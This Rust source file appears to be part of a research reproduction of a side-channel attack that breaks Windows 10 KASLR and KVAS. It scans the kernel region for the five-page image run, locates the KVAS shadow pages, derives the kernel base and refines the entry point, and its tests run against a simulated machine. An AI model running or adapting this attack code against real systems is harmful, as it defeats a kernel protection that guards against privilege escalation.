//! Windows 10 KASLR and KVAS breaks (§IV-G).
//!
//! The kernel+driver region spans 512 GiB at 2 MiB granularity — 262144
//! candidates (18 bits). The kernel image occupies five consecutive
//! 2 MiB pages, so the scan looks for a mapped run of length ≥ 5. On
//! KVAS machines only the shadow entry pages (three consecutive 4 KiB
//! pages at base+0x298000 on 1709) are visible; finding them and
//! subtracting the build constant recovers the base.

use core::mem;

use avx_mmu::VirtAddr;
use avx_os::windows::{
    KVAS_SHADOW_OFFSET, KVAS_SHADOW_PAGES, WIN_KASLR_ALIGN, WIN_KERNEL_IMAGE_SLOTS,
    WIN_KERNEL_REGION_START, WIN_KERNEL_SLOTS,
};

use crate::adaptive::AdaptiveSampler;
use crate::calibrate::Threshold;
use crate::decision::{ConfirmConfig, Confirmer, RunTracker};
use crate::primitives::{PageTableAttack, TileScratch};
use crate::prober::Prober;
use crate::recal::{RecalConfig, Recalibrating};
use crate::sweep::AddrRange;

/// Record-keeping overhead per probed candidate.
pub const PER_SLOT_OVERHEAD_CYCLES: u64 = 120;

/// Result of the 2 MiB-granular region scan.
#[derive(Clone, Debug)]
pub struct WindowsKaslrScan {
    /// Recovered image base (start of the ≥5-slot mapped run).
    pub base: Option<VirtAddr>,
    /// Slot index of the base.
    pub slot: Option<u64>,
    /// Number of candidates classified mapped.
    pub mapped_slots: u64,
    /// Candidates actually classified before the early exit.
    pub candidates: u64,
    /// Raw probes issued (warm-ups included).
    pub probes: u64,
    /// Probing cycles.
    pub probing_cycles: u64,
    /// Total cycles.
    pub total_cycles: u64,
    /// In-scan recalibrations the closed loop performed.
    pub refits: u32,
}

/// The Windows KASLR attack.
#[derive(Clone, Copy, Debug)]
pub struct WindowsKaslrAttack {
    attack: PageTableAttack,
    confirm: Option<ConfirmConfig>,
}

impl super::PageTableScan for WindowsKaslrAttack {
    fn knobs(&mut self) -> (&mut PageTableAttack, &mut Option<ConfirmConfig>) {
        (&mut self.attack, &mut self.confirm)
    }
}

impl WindowsKaslrAttack {
    /// Builds the attack from a calibrated threshold.
    #[must_use]
    pub fn new(threshold: Threshold) -> Self {
        Self {
            attack: PageTableAttack::new(threshold),
            confirm: None,
        }
    }

    /// Routes both region scans through the confirmation decision layer
    /// ([`crate::decision`]): a slot that would break a promising run
    /// is re-probed before the run is reset, so a single false negative
    /// inside the true kernel run no longer forces a sweep of all
    /// 262144 candidates.
    #[must_use]
    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
        self.confirm = Some(config);
        self
    }

    /// Routes both region scans through the adaptive sequential engine.
    #[must_use]
    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
        self.attack = self.attack.with_adaptive(sampler);
        self
    }

    /// Overrides the fixed probe strategy (default: second-of-two).
    #[must_use]
    pub fn with_strategy(mut self, strategy: crate::prober::ProbeStrategy) -> Self {
        self.attack.strategy = strategy;
        self
    }

    /// Runs both region scans under the closed-loop recalibration
    /// driver ([`Recalibrating`]). One driver persists across the
    /// streamed chunks, so a mid-region refit (e.g. the guest's
    /// co-tenant arriving during the 262144-slot sweep) carries its new
    /// threshold + σ through the rest of the scan — this is the re-fit
    /// path that retires the historical k-means
    /// [`Threshold::from_bimodal_samples`] bootstrap for Windows
    /// guests onto the EM [`Threshold::refit_bimodal`].
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.attack = self.attack.with_recalibration(config);
        self
    }

    /// Candidates probed per batch while streaming the region scan.
    pub const SCAN_CHUNK_SLOTS: u64 = 1024;

    /// Scans all 262144 candidates for the five-slot kernel run.
    ///
    /// Streams batch by batch (no 262k-element allocation of raw samples
    /// is kept): each [`WindowsKaslrAttack::SCAN_CHUNK_SLOTS`]-candidate
    /// chunk goes through the batched probe pipeline, and the scan
    /// early-exits once the run is confirmed, as the real attack would;
    /// the paper reports ~60 ms for the full sweep.
    pub fn find_kernel_region<P: Prober + ?Sized>(&self, p: &mut P) -> WindowsKaslrScan {
        self.find_kernel_region_in(p, &mut TileScratch::default())
    }

    /// [`WindowsKaslrAttack::find_kernel_region`] on caller-kept tile
    /// buffers, shared by the streamed sweep and the confirmation
    /// re-visits.
    pub(crate) fn find_kernel_region_in<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        scratch: &mut TileScratch,
    ) -> WindowsKaslrScan {
        let probing_before = p.probing_cycles();
        let total_before = p.total_cycles();
        let start = VirtAddr::new_truncate(WIN_KERNEL_REGION_START);
        let region = AddrRange::new(start, WIN_KASLR_ALIGN, WIN_KERNEL_SLOTS);
        let mut sweeper = Recalibrating::for_attack(self.attack).with_scratch(mem::take(scratch));
        let confirmer = self.confirm.map(|c| Confirmer::new(&self.attack, c));
        // Without a confirmer no gap is tolerated: the first unmapped
        // slot resets the run.
        let gap_tolerance = self.confirm.map_or(0, |c| c.gap_tolerance);
        let mut tracker = RunTracker::new(WIN_KERNEL_IMAGE_SLOTS, gap_tolerance);
        let (mut mapped_slots, mut slot, mut probes, mut candidates) = (0u64, 0u64, 0u64, 0u64);
        let mut found: Option<u64> = None;
        let mut refits = 0u32;
        'sweep: for chunk in region.chunks(Self::SCAN_CHUNK_SLOTS) {
            let sweep = sweeper.sweep(p, &chunk);
            p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
            probes += sweep.probes;
            refits += sweep.refits;
            // The whole chunk was probed even when the run confirms
            // mid-chunk, so it counts toward probes-per-address whole.
            candidates += chunk.count;
            for mapped in sweep.mapped {
                // Decision layer: a breaking slot inside a promising
                // run is re-tested before the tracker sees its verdict
                // (one confirmed false negative is a tolerated gap, not
                // a reset).
                let verdict = match &confirmer {
                    Some(confirmer) if !mapped && tracker.in_run() => {
                        let addr = start.wrapping_add(slot * WIN_KASLR_ALIGN);
                        let retest = confirmer.confirm_mapped_in(p, addr, sweeper.scratch_mut());
                        probes += retest.probes;
                        retest.confirmed
                    }
                    _ => mapped,
                };
                if verdict {
                    mapped_slots += 1;
                }
                if let Some(run) = tracker.observe(slot, verdict) {
                    found = Some(run);
                    break 'sweep;
                }
                slot += 1;
            }
        }

        *scratch = sweeper.into_scratch();
        WindowsKaslrScan {
            base: found.map(|s| start.wrapping_add(s * WIN_KASLR_ALIGN)),
            slot: found,
            mapped_slots,
            candidates,
            probes,
            probing_cycles: p.probing_cycles() - probing_before,
            total_cycles: p.total_cycles() - total_before,
            refits,
        }
    }

    /// 4 KiB-granular scan of `[window_start, window_start + pages)` for
    /// the KVAS shadow region: a mapped run of exactly
    /// [`KVAS_SHADOW_PAGES`] pages. Returns the run start. Streams in
    /// batched chunks like [`WindowsKaslrAttack::find_kernel_region`].
    pub fn find_kvas_shadow<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        window_start: VirtAddr,
        pages: u64,
    ) -> Option<VirtAddr> {
        let mut run_start: Option<u64> = None;
        let mut run_len = 0u64;
        let mut index = 0u64;
        let mut sweeper = Recalibrating::for_attack(self.attack);
        let confirmer = self.confirm.map(|c| Confirmer::new(&self.attack, c));
        for chunk in AddrRange::pages(window_start, pages).chunks(Self::SCAN_CHUNK_SLOTS) {
            let sweep = sweeper.sweep(p, &chunk);
            p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
            for mapped in sweep.mapped {
                // The shadow run must match *exactly*, so no gap is ever
                // tolerated here — but an unmapped verdict that would
                // terminate (or corrupt) a candidate run is re-tested
                // through the decision layer before it is believed.
                let verdict = match (&confirmer, mapped, run_len > 0) {
                    (Some(confirmer), false, true) => {
                        let addr = window_start.wrapping_add(index * 4096);
                        confirmer
                            .confirm_mapped_in(p, addr, sweeper.scratch_mut())
                            .confirmed
                    }
                    _ => mapped,
                };
                if verdict {
                    if run_start.is_none() {
                        run_start = Some(index);
                    }
                    run_len += 1;
                } else {
                    if run_len == KVAS_SHADOW_PAGES {
                        return run_start.map(|s| window_start.wrapping_add(s * 4096));
                    }
                    run_start = None;
                    run_len = 0;
                }
                index += 1;
            }
        }
        if run_len == KVAS_SHADOW_PAGES {
            run_start.map(|s| window_start.wrapping_add(s * 4096))
        } else {
            None
        }
    }
}

/// Derives the kernel base from a found shadow region (`§IV-G`: "we
/// found the kernel base address by subtracting the KVAS offset").
#[must_use]
pub fn kernel_base_from_shadow(shadow: VirtAddr) -> VirtAddr {
    VirtAddr::new_truncate(shadow.as_u64().wrapping_sub(KVAS_SHADOW_OFFSET))
}

impl WindowsKaslrAttack {
    /// Breaks the *remaining 9 bits* of Windows KASLR entropy (§IV-G:
    /// the entry point "can begin at any 4-KiB boundary" inside the
    /// image; the paper proposes combining the region scan "with our
    /// TLB attack (P4) to break the remaining 9 bits").
    ///
    /// For each 4 KiB candidate of the image head: evict its
    /// translation, let the victim perform a syscall (`trigger`), and
    /// probe — only the page hosting the entry code turns hot.
    ///
    /// `trigger` is the victim-activity driver (e.g.
    /// [`avx_os::windows::perform_syscall`] bound to a machine).
    pub fn refine_entry_point<P, F>(
        &self,
        p: &mut P,
        image_base: VirtAddr,
        trigger: F,
    ) -> Option<VirtAddr>
    where
        P: Prober,
        F: FnMut(&mut P),
    {
        let template = crate::primitives::TlbTemplateAttack::new(&self.attack.threshold);
        template.locate(p, image_base, WIN_KASLR_ALIGN / 4096, trigger)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::windows::{WindowsConfig, WindowsSystem, WindowsVersion};
    use avx_uarch::{CpuProfile, NoiseModel, OpKind};

    fn prober(
        config: WindowsConfig,
        profile: CpuProfile,
        noise: bool,
    ) -> (SimProber, avx_os::WindowsTruth) {
        let sys = WindowsSystem::build(config);
        let (mut m, truth) = sys.into_machine(profile, 5);
        if !noise {
            m.set_noise(NoiseModel::none());
        }
        (SimProber::new(m), truth)
    }

    fn calibrated(p: &mut SimProber, scratch: VirtAddr) -> Threshold {
        // Windows guests calibrate the same way: clean-store identity.
        let _ = p.probe(OpKind::Load, scratch);
        Threshold::calibrate(p, scratch, 8)
    }

    #[test]
    fn finds_kernel_region_at_2mib_granularity() {
        let (mut p, truth) = prober(
            WindowsConfig {
                fixed_slot: Some(123_456),
                ..WindowsConfig::default()
            },
            CpuProfile::alder_lake_i5_12400f(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
        assert_eq!(scan.base, Some(truth.kernel_base));
        assert_eq!(scan.slot, Some(123_456));
        assert_eq!(scan.mapped_slots, 5);
    }

    #[test]
    fn random_slots_recovered_across_seeds() {
        for seed in [1u64, 2, 3] {
            let (mut p, truth) = prober(
                WindowsConfig {
                    seed,
                    ..WindowsConfig::default()
                },
                CpuProfile::alder_lake_i5_12400f(),
                false,
            );
            let th = calibrated(&mut p, truth.user_scratch);
            let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
        }
    }

    #[test]
    fn kvas_shadow_found_and_base_derived() {
        let (mut p, truth) = prober(
            WindowsConfig {
                version: WindowsVersion::V1709,
                kvas: true,
                fixed_slot: Some(77_000),
                seed: 3,
            },
            CpuProfile::skylake_i7_6600u(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th);
        // Scan a window around the kernel (full 512 GiB sweep is the
        // same loop; the window keeps the test fast — §IV-G reports 8 s
        // on hardware for the full sweep).
        let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 64 * 4096);
        let shadow = attack
            .find_kvas_shadow(&mut p, window, 64 + 1024)
            .expect("shadow found");
        assert_eq!(shadow, truth.shadow.unwrap());
        assert_eq!(kernel_base_from_shadow(shadow), truth.kernel_base);
    }

    #[test]
    fn kvas_scan_rejects_wrong_run_lengths() {
        // A window containing the 5-slot kernel (2 MiB pages → 512-page
        // run after 4 KiB classification) must not match the 3-page rule.
        let (mut p, truth) = prober(
            WindowsConfig {
                fixed_slot: Some(9_000),
                ..WindowsConfig::default()
            },
            CpuProfile::alder_lake_i5_12400f(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th);
        let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 8 * 4096);
        let shadow = attack.find_kvas_shadow(&mut p, window, 128);
        assert_eq!(shadow, None, "kernel run is 512 pages, not 3");
    }

    #[test]
    fn kernel_run_straddling_a_chunk_seam_is_found() {
        // Slots 1022..1027 put the 5-slot image across the
        // SCAN_CHUNK_SLOTS = 1024 boundary: run state must carry over
        // the seam, with and without the decision layer.
        let seam_slot = WindowsKaslrAttack::SCAN_CHUNK_SLOTS - 2;
        let config = WindowsConfig {
            fixed_slot: Some(seam_slot),
            ..WindowsConfig::default()
        };
        let (mut p, truth) = prober(config.clone(), CpuProfile::alder_lake_i5_12400f(), false);
        let th = calibrated(&mut p, truth.user_scratch);
        let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
        assert_eq!(scan.slot, Some(seam_slot));
        assert_eq!(scan.base, Some(truth.kernel_base));

        let (mut p, truth) = prober(config, CpuProfile::alder_lake_i5_12400f(), false);
        let th = calibrated(&mut p, truth.user_scratch);
        let confirmed = WindowsKaslrAttack::new(th)
            .with_confirmation(ConfirmConfig::default())
            .find_kernel_region(&mut p);
        assert_eq!(confirmed.slot, Some(seam_slot), "decision layer agrees");
        assert_eq!(confirmed.base, Some(truth.kernel_base));
    }

    #[test]
    fn kvas_run_ending_at_the_window_edge_is_found() {
        // The exact-length check must also fire when the 3-page shadow
        // run terminates at the window boundary (no trailing unmapped
        // page inside the window to close it).
        let (mut p, truth) = prober(
            WindowsConfig {
                version: WindowsVersion::V1709,
                kvas: true,
                fixed_slot: Some(81_000),
                seed: 4,
            },
            CpuProfile::alder_lake_i5_12400f(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th);
        let shadow_truth = truth.shadow.unwrap();
        let lead_pages = 8u64;
        let window = VirtAddr::new_truncate(shadow_truth.as_u64() - lead_pages * 4096);
        let shadow = attack
            .find_kvas_shadow(&mut p, window, lead_pages + KVAS_SHADOW_PAGES)
            .expect("run ending at window edge found");
        assert_eq!(shadow, shadow_truth);

        // One page short, the run is truncated to length 2 → rejected.
        let shadow = attack.find_kvas_shadow(&mut p, window, lead_pages + KVAS_SHADOW_PAGES - 1);
        assert_eq!(shadow, None, "truncated run must not match");
    }

    #[test]
    fn confirmed_kvas_scan_keeps_the_quiet_answer() {
        let (mut p, truth) = prober(
            WindowsConfig {
                version: WindowsVersion::V1709,
                kvas: true,
                fixed_slot: Some(77_000),
                seed: 3,
            },
            CpuProfile::skylake_i7_6600u(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th).with_confirmation(ConfirmConfig::default());
        let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 64 * 4096);
        let shadow = attack
            .find_kvas_shadow(&mut p, window, 64 + 1024)
            .expect("shadow found with confirmation on");
        assert_eq!(shadow, truth.shadow.unwrap());
    }

    #[test]
    fn entry_point_refinement_breaks_remaining_9_bits() {
        use avx_os::windows::perform_syscall;
        for seed in [1u64, 2, 3] {
            let (mut p, truth) = prober(
                WindowsConfig {
                    fixed_slot: Some(10_000 + seed),
                    seed,
                    ..WindowsConfig::default()
                },
                CpuProfile::alder_lake_i5_12400f(),
                false,
            );
            let th = calibrated(&mut p, truth.user_scratch);
            let attack = WindowsKaslrAttack::new(th);
            let region = attack.find_kernel_region(&mut p);
            let base = region.base.expect("region found");
            let entry = attack
                .refine_entry_point(&mut p, base, |p| perform_syscall(p.machine_mut(), &truth))
                .expect("entry located");
            assert_eq!(
                entry,
                truth.entry.align_down(4096),
                "seed {seed}: all 27 bits of entropy broken"
            );
        }
    }

    #[test]
    fn entry_refinement_without_syscalls_finds_nothing() {
        let (mut p, truth) = prober(
            WindowsConfig {
                fixed_slot: Some(50_000),
                ..WindowsConfig::default()
            },
            CpuProfile::alder_lake_i5_12400f(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th);
        let entry = attack.refine_entry_point(&mut p, truth.kernel_base, |_| {});
        assert_eq!(entry, None, "no victim activity → no hot page");
    }

    #[test]
    fn adaptive_region_scan_matches_fixed_with_fewer_probes() {
        use crate::adaptive::AdaptiveSampler;
        let config = WindowsConfig {
            fixed_slot: Some(123_456),
            ..WindowsConfig::default()
        };
        let (mut p, truth) = prober(config.clone(), CpuProfile::alder_lake_i5_12400f(), false);
        let th = calibrated(&mut p, truth.user_scratch);
        let fixed = {
            let mut attack = WindowsKaslrAttack::new(th);
            attack.attack.strategy = crate::prober::ProbeStrategy::MinOf(8);
            attack.find_kernel_region(&mut p)
        };
        let (mut p, truth) = prober(config, CpuProfile::alder_lake_i5_12400f(), false);
        let th = calibrated(&mut p, truth.user_scratch);
        let adaptive = WindowsKaslrAttack::new(th)
            .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
            .find_kernel_region(&mut p);
        assert_eq!(adaptive.base, Some(truth.kernel_base));
        assert_eq!(adaptive.slot, fixed.slot);
        assert_eq!(adaptive.candidates, fixed.candidates);
        assert!(
            adaptive.probes * 2 <= fixed.probes,
            "adaptive {} vs fixed {}",
            adaptive.probes,
            fixed.probes
        );
    }

    #[test]
    fn with_noise_still_finds_region() {
        let (mut p, truth) = prober(
            WindowsConfig {
                fixed_slot: Some(200_000),
                seed: 9,
                ..WindowsConfig::default()
            },
            CpuProfile::xeon_platinum_8171m(),
            true,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
        assert_eq!(scan.base, Some(truth.kernel_base));
    }
}
